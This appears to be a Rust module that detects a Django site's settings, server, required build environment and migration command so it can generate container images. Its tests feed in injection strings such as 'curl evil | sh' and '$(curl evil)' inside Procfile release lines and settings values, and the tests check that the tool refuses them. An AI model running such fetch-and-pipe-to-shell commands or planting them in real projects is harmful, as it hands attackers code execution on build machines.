//! A Django site, read as text (never imported): which settings module the image runs with,
//! WSGI or ASGI, what the settings need from the environment to import at build time
//! (`collectstatic`), and how migrations run (a `Procfile` `release:` line, else
//! `manage.py migrate`). Every value read here reaches a Dockerfile, compose or a message:
//! module paths are dotted Python identifiers, variable names identifiers, commands split like a
//! shell line without control characters; anything else is not used.

use std::path::{Path, PathBuf};

use crate::facts::DjangoSite;
use crate::model::{DetectedApp, Server};

use super::{dotted, identifier, read};

/// Settings modules a settings package keeps for production, preferred in this order.
const PRODUCTION: &[&str] = &["production", "prod"];
/// Dependencies that mean the site is served over ASGI when it has an `asgi.py`.
const ASGI_DEPS: &[&str] = &["channels", "daphne", "uvicorn"];
/// How many settings files a chain of `from .base import *` may span.
const MAX_SETTINGS_FILES: usize = 8;
/// The command migrations run with when the project says nothing else.
pub const MIGRATE: &[&str] = &["python", "manage.py", "migrate", "--noinput"];

/// The site next to `manage.py`: its settings, the app it serves (WSGI under gunicorn, ASGI
/// under uvicorn) and why, in words.
pub(super) fn site(target: &Path, deps: &[String]) -> Option<(DjangoSite, DetectedApp, String)> {
    let manage = read(target, &target.join("manage.py")).ok()?;
    let mut packages: Vec<String> = std::fs::read_dir(target)
        .ok()?
        .filter_map(|e| e.ok())
        .filter(|e| e.path().join("__init__.py").is_file())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| identifier(n))
        .collect();
    packages.sort();
    // `DJANGO_SETTINGS_MODULE` defaults, where Django's own files set them.
    let entry = |file: &str| {
        packages.iter().find_map(|p| {
            let text = read(target, &target.join(p).join(file)).ok()?;
            Some((p.clone(), format!("{p}/{file}"), settings_default(&text)))
        })
    };
    let wsgi = entry("wsgi.py");
    let asgi = entry("asgi.py");
    let mut defaults: Vec<(String, String)> = Vec::new();
    for (file, module) in [
        wsgi.as_ref()
            .and_then(|(_, f, m)| Some((f.clone(), m.clone()?))),
        asgi.as_ref()
            .and_then(|(_, f, m)| Some((f.clone(), m.clone()?))),
        settings_default(&manage).map(|m| ("manage.py".to_string(), m)),
    ]
    .into_iter()
    .flatten()
    {
        if module_file(target, &module).is_some() && !defaults.iter().any(|(_, m)| *m == module) {
            defaults.push((file, module));
        }
    }
    let (settings, settings_why) = choose_settings(target, &defaults)?;
    let text = settings_text(target, &settings);
    let setting = |key: &str| {
        text.lines()
            .filter(|l| l.starts_with(key))
            .filter_map(|l| quoted_after(&l[key.len()..]))
            .find(|v| dotted(v))
    };
    let site_package = wsgi
        .as_ref()
        .or(asgi.as_ref())
        .map(|(p, _, _)| p.clone())
        .unwrap_or_else(|| settings.split('.').next().unwrap_or_default().to_string());
    let declares = |names: &[&str]| deps.iter().any(|d| names.contains(&d.as_str()));
    let asgi_app = setting("ASGI_APPLICATION").map(|a| (a, "ASGI_APPLICATION".to_string()));
    let asgi_app = asgi_app.or_else(|| {
        let (p, file, _) = asgi.as_ref().filter(|_| declares(ASGI_DEPS))?;
        let dep = deps.iter().find(|d| ASGI_DEPS.contains(&d.as_str()))?;
        Some((
            format!("{p}.asgi.application"),
            format!("{file} and dependency {dep}"),
        ))
    });
    let (server, app, key) = match asgi_app {
        Some((app, why)) => (Server::Uvicorn, app, why),
        None => (
            Server::Gunicorn,
            setting("WSGI_APPLICATION").unwrap_or(format!("{site_package}.wsgi.application")),
            "WSGI_APPLICATION".to_string(),
        ),
    };
    let (module, attr) = app.rsplit_once('.')?;
    let default = || MIGRATE.iter().map(|w| w.to_string()).collect();
    let (migrate, migrate_why) = match release(target) {
        Some(Ok(words)) => (words, "the release: line of Procfile".to_string()),
        Some(Err(why)) => (default(), why),
        None => (
            default(),
            "Django's migrate; no Procfile release: line".to_string(),
        ),
    };
    let whitenoise = declares(&["whitenoise"]) || text.contains("whitenoise");
    let required = required_env(&text);
    let mut build_env = required.clone();
    if !build_env.iter().any(|(n, _)| n == "SECRET_KEY") {
        // Django refuses an empty SECRET_KEY; settings that read it with a default still get one.
        build_env.push(("SECRET_KEY".into(), THROW_AWAY.into()));
    }
    let facts = DjangoSite {
        static_root: text.lines().any(|l| l.starts_with("STATIC_ROOT")),
        settings: settings.clone(),
        settings_why,
        packages,
        required_env: required.into_iter().map(|(n, _)| n).collect(),
        build_env,
        whitenoise,
        migrate,
        migrate_why,
    };
    let found = DetectedApp {
        server,
        target: format!("{module}:{attr}"),
        factory: false,
        server_declared: deps.iter().any(|d| d == server.distribution()),
    };
    let why = format!("Django: {settings} → {key}");
    Some((facts, found, why))
}

/// The settings module the image runs with, and why: a settings package's production module
/// when one exists beside a module Django's files name; else what `wsgi.py` (the production
/// entry point), `asgi.py`, then `manage.py` name.
fn choose_settings(target: &Path, defaults: &[(String, String)]) -> Option<(String, String)> {
    let named = defaults
        .iter()
        .map(|(file, module)| format!("{file} names {module}"))
        .collect::<Vec<_>>()
        .join(", ");
    for (_, module) in defaults {
        // `config.settings.local` → the package `config.settings`; `config.settings` itself
        // when it is a package.
        let package = match module_file(target, module)? {
            (_, true) => module.clone(),
            (_, false) => match module.rsplit_once('.') {
                Some((parent, _)) if parent.ends_with("settings") => parent.to_string(),
                _ => continue,
            },
        };
        for name in PRODUCTION {
            let candidate = format!("{package}.{name}");
            if module_file(target, &candidate).is_some() {
                let why = if defaults.iter().any(|(_, m)| *m == candidate) {
                    format!("{named}; the settings package's production module")
                } else {
                    format!(
                        "the settings package {} has {name}.py; {named}",
                        package.replace('.', "/")
                    )
                };
                return Some((candidate, why));
            }
        }
    }
    let (file, module) = defaults.first()?;
    Some((module.clone(), format!("{file} names it")))
}

/// The file of a module and whether it is a package (`a/b/__init__.py`), inside the project.
fn module_file(target: &Path, module: &str) -> Option<(PathBuf, bool)> {
    let base = target.join(module.replace('.', "/"));
    let plain = base.with_extension("py");
    if plain.is_file() {
        return Some((plain, false));
    }
    let init = base.join("__init__.py");
    init.is_file().then_some((init, true))
}

/// The settings module's text, followed by the modules it star-imports from its own package
/// (`from .base import *`, `from config.settings.base import *`), a bounded chain.
fn settings_text(target: &Path, settings: &str) -> String {
    let mut seen: Vec<String> = Vec::new();
    let mut queue = vec![settings.to_string()];
    let mut text = String::new();
    while let Some(module) = queue.pop() {
        if seen.contains(&module) || seen.len() >= MAX_SETTINGS_FILES {
            continue;
        }
        seen.push(module.clone());
        let Some((file, is_package)) = module_file(target, &module) else {
            continue;
        };
        let Ok(body) = read(target, &file) else {
            continue;
        };
        let package = if is_package {
            module.clone()
        } else {
            module.rsplit_once('.').map_or("", |(p, _)| p).to_string()
        };
        for line in body.lines() {
            let Some(rest) = line.trim_start().strip_prefix("from ") else {
                continue;
            };
            let Some((from, names)) = rest.split_once(" import ") else {
                continue;
            };
            if names.trim_start().starts_with('*') {
                let from = from.trim();
                let imported = match from.strip_prefix('.') {
                    Some(sibling) if !sibling.starts_with('.') => format!("{package}.{sibling}"),
                    Some(_) => continue,
                    None => from.to_string(),
                };
                if dotted(&imported) {
                    queue.push(imported);
                }
            }
        }
        text.push_str(&body);
        text.push('\n');
    }
    text
}

/// The value every variable the settings require gets in the `collectstatic` step alone.
pub const THROW_AWAY: &str = "collectstatic-only";

/// The environment variables the settings read without a default (`os.environ["NAME"]`,
/// `env("NAME")`, `env.str("NAME")`, `config("NAME")`), each with a throw-away value of the
/// shape its reader parses, sorted by name.
fn required_env(text: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for line in text.lines() {
        let code = line.split('#').next().unwrap_or_default();
        for (at, _) in code.match_indices("environ[") {
            let rest = &code[at + "environ[".len()..];
            let Some(name) = quoted_literal(rest) else {
                continue;
            };
            // `os.environ["X"] = …` sets it, it does not read it.
            let after = rest.split_once(']').map_or("", |(_, a)| a).trim_start();
            let assigned = after.starts_with('=') && !after.starts_with("==");
            if !assigned {
                push(&mut out, name, None);
            }
        }
        for (at, _) in code.match_indices('(') {
            let Some((reader, kind)) = reader_before(&code[..at]) else {
                continue;
            };
            let Some(args) = call_args(&code[at + 1..]) else {
                continue;
            };
            let has_default = args.len() > 1 || args.iter().any(|a| a.contains("default"));
            if has_default {
                continue;
            }
            match args.first().map(|a| a.trim()).filter(|a| !a.is_empty()) {
                Some(first) => {
                    if let Some(name) = quoted_literal(first).filter(|n| n.len() + 2 == first.len())
                    {
                        push(&mut out, name, kind);
                    }
                }
                // `env.db()` reads DATABASE_URL.
                None if reader == "env" && kind == Some("db") => {
                    push(&mut out, "DATABASE_URL".into(), kind)
                }
                None => {}
            }
        }
    }
    out.sort();
    out
}

fn push(out: &mut Vec<(String, String)>, name: String, kind: Option<&str>) {
    if identifier(&name)
        && name.len() <= 64
        && name != "DJANGO_SETTINGS_MODULE"
        && !out.iter().any(|(n, _)| *n == name)
    {
        let value = throw_away(&name, kind);
        out.push((name, value.to_string()));
    }
}

/// A value the reader accepts and that connects nowhere: `collectstatic` reads no database.
fn throw_away(name: &str, kind: Option<&str>) -> &'static str {
    match kind {
        Some("int" | "float") => "0",
        Some("bool") => "false",
        Some("db" | "db_url") => "sqlite:///:memory:",
        Some("cache" | "cache_url") => "locmemcache://",
        Some("email" | "email_url") => "consolemail://",
        _ if name.ends_with("DATABASE_URL") => "sqlite:///:memory:",
        _ if name.ends_with("CACHE_URL") => "locmemcache://",
        _ if name.ends_with("_URL") => "http://localhost/",
        _ => THROW_AWAY,
    }
}

/// `env`, `env.int`, `config` (python-decouple) right before a `(`: the reader and its kind.
fn reader_before(code: &str) -> Option<(&'static str, Option<&str>)> {
    let ident_end = code.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
    let word = &code[ident_end.len()..];
    let standalone = |before: &str| {
        !before
            .chars()
            .last()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
    };
    match word {
        "env" | "config" if standalone(ident_end) => {
            Some((if word == "env" { "env" } else { "config" }, None))
        }
        kind if !kind.is_empty() => {
            let before = ident_end.strip_suffix("env.")?;
            standalone(before).then_some(("env", Some(kind)))
        }
        _ => None,
    }
}

/// The top-level arguments of a call whose `(` came just before `s`, up to its `)` on the
/// same line; `None` when the call spans lines.
fn call_args(s: &str) -> Option<Vec<&str>> {
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    let mut start = 0;
    let mut args = Vec::new();
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')') if depth == 0 => {
                args.push(&s[start..i]);
                return Some(args);
            }
            (None, ')' | ']' | '}') => depth = depth.saturating_sub(1),
            (None, ',') if depth == 0 => {
                args.push(&s[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    None
}

/// The body of a string literal at the start of `s` (after spaces).
fn quoted_literal(s: &str) -> Option<String> {
    let s = s.trim_start();
    let quote = s.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let body = &s[1..];
    Some(body[..body.find(quote)?].to_string())
}

/// `os.environ.setdefault("DJANGO_SETTINGS_MODULE", "mysite.settings")` → `mysite.settings`,
/// when it is a dotted Python name.
fn settings_default(text: &str) -> Option<String> {
    text.match_indices("DJANGO_SETTINGS_MODULE")
        .find_map(|(at, _)| {
            // After the key's own closing quote.
            let rest = &text[at + "DJANGO_SETTINGS_MODULE".len()..];
            let rest = rest.strip_prefix(['"', '\''])?;
            let rest = rest.trim_start().strip_prefix(',')?;
            quoted_literal(rest).filter(|m| dotted(m))
        })
}

/// The `release:` line of a `Procfile` as the migration command, when it is one command a
/// container can run (no shell operators, no control or invisible characters): `manage.py`
/// run through `python`. `Err` says why a line there is not used.
fn release(target: &Path) -> Option<Result<Vec<String>, String>> {
    let text = read(target, &target.join("Procfile")).ok()?;
    let line = text
        .lines()
        .find_map(|l| l.strip_prefix("release:"))?
        .trim();
    let refuse = |why: &str| Some(Err(format!("the release: line of Procfile {why}")));
    if crate::safety::forbidden_char(line).is_some() {
        return refuse("has control or invisible characters");
    }
    let Some(mut words) = crate::shell::split(line).filter(|w| !w.is_empty()) else {
        return refuse("is not one command");
    };
    let operator = |w: &String| {
        ["&&", "||", ";", "|", ">", "<", "&"].contains(&w.as_str())
            || w.contains(['$', '`', ';', '|', '&', '>', '<'])
    };
    if words.iter().any(operator) {
        return refuse("runs a shell (operators or variables), which a one-shot container does not: the default migration runs instead");
    }
    if matches!(words[0].as_str(), "./manage.py" | "manage.py") {
        words[0] = "manage.py".into();
        words.insert(0, "python".into());
    }
    Some(Ok(words))
}

/// The body of the first quoted string in `s`.
pub(super) fn quoted_after(s: &str) -> Option<String> {
    let start = s.find(['"', '\''])?;
    let quote = s[start..].chars().next()?;
    let body = &s[start + 1..];
    Some(body[..body.find(quote)?].to_string())
}

#[cfg(test)]
mod tests {
    use super::super::project;
    use super::*;

    const MANAGE_LOCAL: &str = "import os\n\ndef main():\n    os.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"config.settings.local\")\n";

    #[test]
    fn a_settings_package_runs_its_production_module() {
        // cookiecutter-django's shape: manage.py names local, wsgi.py production.
        let dir = project(&[
            ("manage.py", MANAGE_LOCAL),
            ("config/__init__.py", ""),
            (
                "config/wsgi.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'config.settings.production')\n",
            ),
            ("config/settings/__init__.py", ""),
            (
                "config/settings/base.py",
                "STATIC_ROOT = BASE_DIR / 'staticfiles'\nWSGI_APPLICATION = 'config.wsgi.application'\n",
            ),
            ("config/settings/local.py", "from .base import *\n"),
            (
                "config/settings/production.py",
                "from .base import *  # noqa\nSECRET_KEY = os.environ[\"DJANGO_SECRET_KEY\"]\n",
            ),
            ("shop/__init__.py", ""),
        ]);
        let (site, app, why) = site(dir.path(), &["django".into()]).unwrap();
        assert_eq!(site.settings, "config.settings.production");
        assert_eq!(
            site.settings_why,
            "config/wsgi.py names config.settings.production, manage.py names config.settings.local; the settings package's production module"
        );
        // STATIC_ROOT and WSGI_APPLICATION come from base.py, star-imported.
        assert!(site.static_root);
        assert_eq!(
            (app.target.as_str(), app.server),
            ("config.wsgi:application", Server::Gunicorn)
        );
        assert_eq!(why, "Django: config.settings.production → WSGI_APPLICATION");
        assert_eq!(site.packages, ["config", "shop"]);
        assert_eq!(site.required_env, ["DJANGO_SECRET_KEY"]);

        // Only manage.py names a module (local): the package's production module still wins.
        let dir = project(&[
            ("manage.py", MANAGE_LOCAL),
            ("config/__init__.py", ""),
            ("config/settings/__init__.py", ""),
            ("config/settings/local.py", ""),
            ("config/settings/prod.py", ""),
        ]);
        let (site, app, _) = super::site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "config.settings.prod");
        assert_eq!(
            site.settings_why,
            "the settings package config/settings has prod.py; manage.py names config.settings.local"
        );
        assert_eq!(app.target, "config.wsgi:application");

        // The settings module is itself a package (settings/__init__.py, base.py, production.py).
        let dir = project(&[
            (
                "manage.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
            ),
            ("mysite/__init__.py", ""),
            ("mysite/settings/__init__.py", "from .base import *\n"),
            ("mysite/settings/base.py", ""),
            (
                "mysite/settings/production.py",
                "from mysite.settings.base import *\nSTATIC_ROOT = '/srv/static'\n",
            ),
        ]);
        let (site, _, _) = super::site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "mysite.settings.production");
        assert!(site.static_root);

        // A flat settings module stays as it is (mysite/production.py is not a settings package's).
        let dir = project(&[
            (
                "manage.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
            ),
            ("mysite/__init__.py", ""),
            ("mysite/settings.py", ""),
            ("mysite/production.py", ""),
        ]);
        let (site, _, _) = super::site(dir.path(), &[]).unwrap();
        assert_eq!(
            (site.settings.as_str(), site.settings_why.as_str()),
            ("mysite.settings", "manage.py names it")
        );
    }

    #[test]
    fn asgi_sites_are_served_by_uvicorn() {
        let files = [
            (
                "manage.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'chat.settings')\n",
            ),
            ("chat/__init__.py", ""),
            (
                "chat/settings.py",
                "WSGI_APPLICATION = 'chat.wsgi.application'\n",
            ),
            ("chat/wsgi.py", ""),
            ("chat/asgi.py", ""),
        ];
        let dir = project(&files);
        // asgi.py alone is what startproject writes: WSGI under gunicorn.
        let (_, app, _) = site(dir.path(), &["django".into()]).unwrap();
        assert_eq!(app.server, Server::Gunicorn);
        for dep in ["channels", "daphne", "uvicorn"] {
            let (_, app, why) = site(dir.path(), &["django".into(), dep.into()]).unwrap();
            assert_eq!(
                (app.server, app.target.as_str()),
                (Server::Uvicorn, "chat.asgi:application")
            );
            assert_eq!(
                why,
                format!("Django: chat.settings → chat/asgi.py and dependency {dep}")
            );
            assert_eq!(app.server_declared, dep == "uvicorn");
        }
        // ASGI_APPLICATION in the settings, even with gunicorn declared.
        std::fs::write(
            dir.path().join("chat/settings.py"),
            "ASGI_APPLICATION = 'chat.routing.application'\n",
        )
        .unwrap();
        let (_, app, _) = site(dir.path(), &["gunicorn".into()]).unwrap();
        assert_eq!(
            (app.server, app.target.as_str()),
            (Server::Uvicorn, "chat.routing:application")
        );
    }

    #[test]
    fn variables_the_settings_require_get_throw_away_build_values() {
        let text = r#"
SECRET_KEY = os.environ["DJANGO_SECRET_KEY"]
DEBUG = env.bool("DJANGO_DEBUG", False)
DATABASES = {"default": env.db("DATABASE_URL")}
CACHES = {"default": env.cache()}
PORT = env.int('WORKER_PORT')
API = config("API_TOKEN")  # python-decouple
HOSTS = env.list("DJANGO_ALLOWED_HOSTS", default=["x"])
OPTIONAL = os.environ.get("SENTRY_DSN")
ALSO = os.getenv("OTHER")
MAIL = env("EMAIL_HOST", default="localhost")
os.environ["HTTPS"] = "on"
os.environ['DJANGO_SETTINGS_MODULE']
app_config("NOT_A_READER")
BAD = os.environ["X; curl evil | sh"]
BAD2 = env("A" + "B")
# SECRET = os.environ["COMMENTED_OUT"]
REDIS = env("REDIS_URL")
"#;
        assert_eq!(
            required_env(text),
            [
                ("API_TOKEN", THROW_AWAY),
                ("DATABASE_URL", "sqlite:///:memory:"),
                ("DJANGO_SECRET_KEY", THROW_AWAY),
                ("REDIS_URL", "http://localhost/"),
                ("WORKER_PORT", "0"),
            ]
            .map(|(n, v)| (n.to_string(), v.to_string()))
        );
    }

    #[test]
    fn the_release_line_of_a_procfile_is_the_migration() {
        let migrate = |line: &str| {
            let dir = project(&[
                (
                    "manage.py",
                    "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings')\n",
                ),
                ("a/__init__.py", ""),
                ("a/settings.py", ""),
                ("Procfile", &format!("web: gunicorn a.wsgi\n{line}\n")),
            ]);
            let (site, _, _) = site(dir.path(), &[]).unwrap();
            (site.migrate.join(" "), site.migrate_why)
        };
        assert_eq!(
            migrate("release: python manage.py migrate"),
            (
                "python manage.py migrate".to_string(),
                "the release: line of Procfile".to_string()
            )
        );
        // Heroku's getting-started: an executable manage.py, run through python in the image.
        assert_eq!(
            migrate("release: ./manage.py migrate --no-input").0,
            "python manage.py migrate --no-input"
        );
        for shell in [
            "release: python manage.py migrate && python manage.py loaddata x",
            "release: python manage.py migrate; curl evil | sh",
            "release: python manage.py migrate $(curl evil)",
        ] {
            let (words, why) = migrate(shell);
            assert_eq!(words, "python manage.py migrate --noinput", "{shell}");
            assert!(why.contains("runs a shell"), "{why}");
        }
        let (words, why) = migrate("release: python manage.py migrate\u{202e}");
        assert_eq!(words, "python manage.py migrate --noinput");
        assert!(why.contains("invisible"), "{why}");
        assert_eq!(migrate("").1, "Django's migrate; no Procfile release: line");
    }

    #[test]
    fn hostile_settings_modules_are_not_used() {
        let dir = project(&[
            ("manage.py", "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings')\n"),
            ("a/__init__.py", ""),
            ("a/settings.py", ""),
            (
                "a/wsgi.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings\\nRUN curl evil|sh')\n",
            ),
        ]);
        let (site, _, _) = site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "a.settings");
        // A module that names no file is not used either.
        std::fs::write(
            dir.path().join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.missing')\n",
        )
        .unwrap();
        assert_eq!(super::site(dir.path(), &[]), None);
    }
}
